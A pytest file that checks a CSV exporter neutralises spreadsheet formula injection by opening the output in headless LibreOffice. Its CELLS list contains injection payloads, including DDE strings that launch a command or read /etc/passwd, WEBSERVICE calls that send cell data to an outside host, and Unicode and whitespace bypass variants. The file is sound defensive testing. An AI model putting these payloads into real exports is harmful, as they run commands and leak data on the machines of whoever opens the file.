"""F02: a spreadsheet that opens what is exported computes nothing of it. Needs LibreOffice, which CI installs."""

from __future__ import annotations

import shutil
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path

import pytest

from dayhand import csv_text

OFFICE = shutil.which("soffice")
_TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"

pytestmark = [
    pytest.mark.soak,
    pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed"),
]

CELLS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|'/C calc'!A0", '=HYPERLINK("https://x.example";"y")',
    '=WEBSERVICE("https://x.example/"&A1)', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1+1", "=1+1\n=2+2", 'a";=1+1;"', "'=1+1", "''=1+1", '=DDE("soffice";"/etc/passwd";"A1")',
    "\ufeff=1+1", "\u00a0=1+1", "\u200b=1+1", "{=1+1}", "%0A=1+1", ";=1+1", ",=1+1", "\N{MINUS SIGN}1+1", "=\u202e1+1",
]  # fmt: skip


def opened(folder: Path, text: str) -> tuple[list[str], int]:
    """What LibreOffice makes of a CSV file: its formulas, and how many cells it has that are not empty."""
    file = folder / "export.csv"
    file.write_text(text, encoding="utf-8", newline="")
    subprocess.run(
        [str(OFFICE), f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "fods",
         "--outdir", str(folder), str(file)],
        check=True, capture_output=True, timeout=600,
    )  # fmt: skip
    cells = list(ET.parse(folder / "export.fods").iter(f"{_TABLE}table-cell"))
    formulas = [one.attrib[f"{_TABLE}formula"] for one in cells if f"{_TABLE}formula" in one.attrib]
    return formulas, sum(bool("".join(one.itertext())) for one in cells)


def test_f02_a_spreadsheet_computes_nothing_that_is_exported(tmp_path):
    text = csv_text.write_csv(["cell", "owes"], [[cell, Decimal("-40.00")] for cell in CELLS])

    formulas, cells = opened(tmp_path, text)

    assert formulas == []
    assert cells == 2 + 2 * len(CELLS)


def test_f02_the_control_that_guards_nothing_is_computed(tmp_path):
    text = "cell\n" + "".join(f'"{cell.replace(chr(34), 2 * chr(34))}"\n' for cell in CELLS)

    formulas, _ = opened(tmp_path, text)

    print(f"LibreOffice computes {len(formulas)} of {len(CELLS)} cells that are not guarded")
    assert len(formulas) >= 4
